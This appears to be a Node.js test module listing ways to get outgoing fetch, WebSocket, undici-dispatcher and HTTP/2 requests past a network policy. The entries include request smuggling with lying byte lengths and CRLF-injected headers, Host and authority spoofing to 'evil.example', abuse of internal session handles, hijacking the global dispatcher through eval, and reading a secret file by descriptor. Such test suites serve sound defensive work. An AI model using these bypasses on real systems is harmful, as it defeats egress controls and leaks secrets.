/* global WebSocket -- of Node.js 22 and later */
'use strict';
// fetch, WebSocket and HTTP/2: every request is judged, also those that follow by themselves.
const http2 = require('http2');

const bad = '127.0.0.1';
const good = '127.0.0.2';
const GLOBAL = Symbol.for('undici.globalDispatcher.1');
const url = (ctx, host = bad, path = '/') => `http://${host}:${ctx.to.http}${path}${ctx.token}`;
const redirect = (ctx, to) => `http://${good}:${ctx.to.http}/ok?to=${encodeURIComponent(to)}`;
const text = async (response) => (await response).text();
const dispatch = (dispatcher, options) => new Promise((resolve) => {
  const handler = { onConnect() {}, onHeaders: () => true, onData: () => true, onComplete: () => resolve('done'), onError: (error) => resolve(`${error.code ?? error}`), onRequestStart() {}, onResponseStart() {}, onResponseData() {}, onResponseEnd: () => resolve('done'), onResponseError: (controller, error) => resolve(`${error.code}`) };
  dispatcher.dispatch({ method: 'GET', ...options }, handler);
});
const session = (ctx, use) => new Promise((resolve) => {
  const client = http2.connect(`http://${good}:${ctx.to.http2}`);
  client.on('error', (error) => resolve(`${error.code}`));
  const request = use(client);
  request.on('error', (error) => resolve(`${error.code ?? error}`));
  request.on('close', () => { client.destroy(); resolve('closed'); });
  request.resume();
});

/** A function that answers otherwise from some time on. */
const answering = (first, later, from) => { let asked = 0; return Object.assign(() => 0, { toString: () => { asked += 1; return asked >= from ? later : first; } }); };
/** More bytes than it says. */
const lying = (length, bytes) => Object.defineProperty(Buffer.from(bytes), 'byteLength', { value: length });
const smuggled = (ctx) => `GET /${ctx.token} HTTP/1.1\r\nHost: ${good}\r\n\r\n`;
/** The session that `http2.connect` is about to return, as its socket meets it. */
const early = (ctx) => {
  let found;
  const traps = { set(target, key, value, receiver) { if (typeof value?.request === 'function') found ??= value.request; return Reflect.set(target, key, value, receiver); } };
  const duplex = new (require('stream').Duplex)({ read() {}, write: (chunk, encoding, done) => done() });
  http2.connect(`http://${good}:${ctx.to.http2}`, { createConnection: () => new Proxy(duplex, traps) }).on('error', () => undefined);
  return found;
};
const handleKey = (object) => Object.getOwnPropertySymbols(object).find((symbol) => symbol.description === 'kHandle');
/** `request` of the handle of a server's session. */
const handleRequest = () => {
  let found;
  const server = http2.createServer().on('session', (made) => { found = made; });
  server.emit('connection', new (require('stream').Duplex)({ read() {}, write: (chunk, encoding, done) => done() }));
  return Object.getPrototypeOf(found[handleKey(found)]).request;
};

module.exports = [
  { name: 'a chunk that is longer than it says', run: (ctx) => text(fetch(url(ctx, good, '/ok/').replace(ctx.token, ''), { method: 'POST', duplex: 'half', body: new ReadableStream({ start(to) { to.enqueue(lying(1, `x\r\n0\r\n\r\n${smuggled(ctx)}`)); to.close(); } }) })) },
  { name: 'a body that is longer than it says', run: (ctx) => { void Headers; return dispatch(globalThis[GLOBAL], { origin: `http://${good}:${ctx.to.http}`, path: '/ok', method: 'POST', body: lying(1, `x${smuggled(ctx)}`) }); } },
  { name: 'HTTP/2, the method taken from a session that is being made', run: (ctx) => { const request = early(ctx); return session(ctx, (client) => request.call(client, { ':path': `/${ctx.token}` })); } },
  {
    name: 'HTTP/2, the handle of a session of a server', run: (ctx) => new Promise((resolve) => {
      const request = handleRequest();
      const client = http2.connect(`http://${good}:${ctx.to.http2}`).on('error', (error) => resolve(error.code));
      const list = [':method\0GET\0', ':authority\0x\0', ':scheme\0http\0', `:path\0/${ctx.token}\0`].map((line) => `${line}\0`);
      client.on('connect', () => { try { request.call(client[handleKey(client)], [list.join(''), 4], 0, 0, 16, false); } catch (error) { resolve(error.code); } });
      setTimeout(() => { client.destroy(); resolve('done'); }, 150);
    }),
  },
  { name: 'fetch', legit: true, run: (ctx) => text(fetch(url(ctx))) },
  { name: 'a Request', legit: true, run: (ctx) => text(fetch(new Request(url(ctx)))) },
  { name: 'another path', run: (ctx) => text(fetch(url(ctx, good))) },
  { name: 'a redirect', run: (ctx) => text(fetch(redirect(ctx, url(ctx)))) },
  { name: 'a redirect to another path', run: (ctx) => text(fetch(redirect(ctx, url(ctx, good)))) },
  { name: 'a redirect of the body', run: (ctx) => text(fetch(redirect(ctx, url(ctx)), { method: 'POST', body: 'x' })) },
  { name: 'fetch as a callback', run: (ctx) => Promise.resolve(url(ctx)).then(fetch).then(text) },
  { name: 'fetch from a timer', run: (ctx) => new Promise((resolve) => { setTimeout(fetch, 1, url(ctx)); setTimeout(resolve, 100, ''); }) },
  { name: 'the Host header', run: (ctx) => text(fetch(url(ctx, good, '/ok/'), { headers: { host: bad } })) },
  { name: 'a URL that changes', run: (ctx) => { let asked = 0; return text(fetch({ toString: () => { asked += 1; return asked > 1 ? url(ctx) : url(ctx, good, '/ok/'); } })); } },
  { name: 'the global dispatcher', run: (ctx) => { void Headers; return dispatch(globalThis[GLOBAL], { origin: `http://${bad}:${ctx.to.http}`, path: `/${ctx.token}` }); } },
  { name: 'the global dispatcher, with a redirect', maxNode: 22, run: (ctx) => { void Headers; return dispatch(globalThis[GLOBAL], { origin: `http://${good}:${ctx.to.http}`, path: `/ok?to=${encodeURIComponent(url(ctx))}`, maxRedirections: 3 }); } },
  { name: 'the global dispatcher, with an origin that changes', run: (ctx) => { void Headers; let asked = 0; return dispatch(globalThis[GLOBAL], { get origin() { asked += 1; return `http://${asked > 1 ? bad : good}:${ctx.to.http}`; }, path: `/ok/${ctx.token}` }); } },
  { name: 'the class of the global dispatcher', run: (ctx) => { void Headers; return dispatch(new (globalThis[GLOBAL].constructor)(), { origin: `http://${bad}:${ctx.to.http}`, path: `/${ctx.token}` }); } },
  { name: 'a dispatcher of its own that asks the global one', run: (ctx) => { void Headers; const real = globalThis[GLOBAL]; return text(fetch(url(ctx, good, '/ok'), { dispatcher: { dispatch: (options, handler) => real.dispatch({ ...options, origin: `http://${bad}:${ctx.to.http}`, path: `/${ctx.token}` }, handler) } })); } },
  {
    name: 'the dispatcher of others', wants: 'escaped', run: async (ctx) => {
      void Headers;
      try { Object.defineProperty(globalThis, GLOBAL, { value: { dispatch() { throw new Error('ESCAPED'); } }, writable: true }); } catch { /* fixed */ }
      try { return await eval('(0, eval)')(`fetch('${ctx.url}').then(String, (error) => String(error.cause))`); } catch (error) { return `${error}`; }
    }, restart: true, later: 'shared with the attacker itself',
  },
  { name: 'WebSocket', minNode: 22, legit: true, run: (ctx) => new Promise((resolve) => { const socket = new WebSocket(`ws://${bad}:${ctx.to.http}/${ctx.token}`); socket.onopen = () => { socket.close(); resolve('open'); }; socket.onerror = () => resolve('error'); }) },
  { name: 'WebSocket to another path', minNode: 22, run: (ctx) => new Promise((resolve) => { const socket = new WebSocket(`ws://${good}:${ctx.to.http}/${ctx.token}`); socket.onopen = () => { socket.close(); resolve('open'); }; socket.onerror = () => resolve('error'); }) },
  { name: 'the constructor of a WebSocket', minNode: 22, run: (ctx) => new Promise((resolve) => { const socket = new (WebSocket.prototype.constructor)(`ws://${bad}:${ctx.to.http}/${ctx.token}`); socket.onopen = () => { socket.close(); resolve('open'); }; socket.onerror = () => resolve('error'); }) },
  { name: 'WebSocket of http', minNode: 24, run: (ctx) => new Promise((resolve) => { const socket = new (require('http').WebSocket)(`ws://${bad}:${ctx.to.http}/${ctx.token}`); socket.onopen = () => { socket.close(); resolve('open'); }; socket.onerror = () => resolve('error'); }) },
  { name: 'HTTP/2', legit: true, run: (ctx) => new Promise((resolve) => { const client = http2.connect(`http://${bad}:${ctx.to.http2}`); client.on('error', (error) => resolve(error.code)); client.request({ ':path': `/${ctx.token}` }).on('error', resolve).on('close', () => { client.destroy(); resolve('closed'); }).resume(); }) },
  { name: 'HTTP/2, another path', run: (ctx) => session(ctx, (client) => client.request({ ':path': `/${ctx.token}` })) },
  { name: 'HTTP/2, another authority', run: (ctx) => session(ctx, (client) => client.request({ ':path': `/ok/${ctx.token}`, ':authority': 'evil.example' })) },
  { name: 'HTTP/2, the Host header', run: (ctx) => session(ctx, (client) => client.request({ ':path': `/ok/${ctx.token}`, host: 'evil.example' })) },
  { name: 'HTTP/2, headers that change', run: (ctx) => session(ctx, (client) => { let asked = 0; return client.request({ ':path': { toString: () => { asked += 1; return asked > 1 ? `/${ctx.token}` : '/ok'; } } }); }) },
  ...[2, 3].map((from) => ({ name: `HTTP/2, a path that is a function, another from read ${from} on`, run: (ctx) => session(ctx, (client) => client.request({ ':path': answering('/ok', `/${ctx.token}`, from) })) })),
  { name: 'HTTP/2, an authority that is a function', run: (ctx) => session(ctx, (client) => client.request({ ':path': `/ok/${ctx.token}`, ':authority': answering(`${good}:${ctx.to.http2}`, 'evil.example', 2) })) },
  { name: 'HTTP/2, the Host header beside the authority', run: (ctx) => session(ctx, (client) => client.request({ ':path': `/ok/${ctx.token}`, ':authority': `${good}:${ctx.to.http2}`, host: 'evil.example' })) },
  { name: 'HTTP/2, the Host header before one that is not there', run: (ctx) => session(ctx, (client) => client.request({ ':path': `/ok/${ctx.token}`, host: 'evil.example', HOST: undefined })) },
  { name: 'HTTP/2, another authority before one that is not there', minNode: 22, run: (ctx) => session(ctx, (client) => client.request({ ':path': `/ok/${ctx.token}`, ':authority': 'evil.example', ':AUTHORITY': undefined })) },
  { name: 'HTTP/2, the Host header by a name that is a function', minNode: 24, run: (ctx) => session(ctx, (client) => client.request([':path', `/ok/${ctx.token}`, Object.assign(() => 0, { toLowerCase: () => 'host' }), 'evil.example'])) },
  { name: 'HTTP/2, a host in the options', run: (ctx) => new Promise((resolve) => { const client = http2.connect(`http://${good}:${ctx.to.http2}`, { host: bad }); client.on('error', (error) => resolve(error.code)); client.request({ ':path': `/ok/${ctx.token}` }).on('error', resolve).on('close', () => { client.destroy(); resolve('closed'); }).resume(); }) },
  { name: 'HTTP/2, createConnection', run: (ctx) => new Promise((resolve) => { const client = http2.connect(`http://${good}:${ctx.to.http2}`, { createConnection: () => require('net').connect(ctx.to.http2, bad) }); client.on('error', (error) => resolve(error.code)); client.request({ ':path': `/ok/${ctx.token}` }).on('error', resolve).on('close', () => { client.destroy(); resolve('closed'); }).resume(); }) },
  {
    name: 'HTTP/2, the handle of a session', run: (ctx) => new Promise((resolve) => {
      const client = http2.connect(`http://${good}:${ctx.to.http2}`);
      client.on('error', (error) => resolve(error.code));
      const [key] = Object.getOwnPropertySymbols(client).filter((symbol) => symbol.description === 'kHandle');
      const list = [':method\0GET\0', ':authority\0x\0', ':scheme\0http\0', `:path\0/${ctx.token}\0`].map((text) => `${text}\0`);
      client.prependListener('connect', () => {
        try { client[key].request([list.join(''), 4], 0, 0, 16, false); } catch (error) { resolve(error.code); }
      });
      setTimeout(() => { client.destroy(); resolve('done'); }, 150);
    }),
  },
  { name: 'the global dispatcher, with an upgrade of two lines', run: (ctx) => { void Headers; return dispatch(globalThis[GLOBAL], { origin: `http://${good}:${ctx.to.http}`, path: '/ok', upgrade: `x\r\n\r\nGET /${ctx.token} HTTP/1.1\r\nHost: ${good}` }); } },
  { name: 'the global dispatcher, with a fragment', run: (ctx) => { void Headers; return dispatch(globalThis[GLOBAL], { origin: `http://${good}:${ctx.to.http}`, path: `/bad/${ctx.token}#/../../ok` }); } },
  {
    name: 'a file by its number through HTTP/2', wants: 'read', run: async (ctx) => new Promise((resolve) => {
      const fs = require('fs');
      let fd;
      try { fd = fs.openSync(ctx.secret); } catch { fd = ctx.given ?? 20; }
      const server = http2.createServer();
      server.on('stream', (stream) => { stream.on('error', () => undefined); try { stream.respondWithFD(fd); } catch (error) { stream.destroy(); resolve(error.code); } });
      server.listen(0, bad, () => {
        const client = http2.connect(`http://${bad}:${server.address().port}`);
        client.on('error', (error) => resolve(error.code));
        let found = '';
        client.request({ ':path': '/' }).on('error', (error) => resolve(error.code)).on('data', (bytes) => { found += bytes; }).on('close', () => { client.destroy(); server.close(); resolve(found); });
      });
    }),
  },
].map((entry) => ({ wants: 'sent', ...entry }));
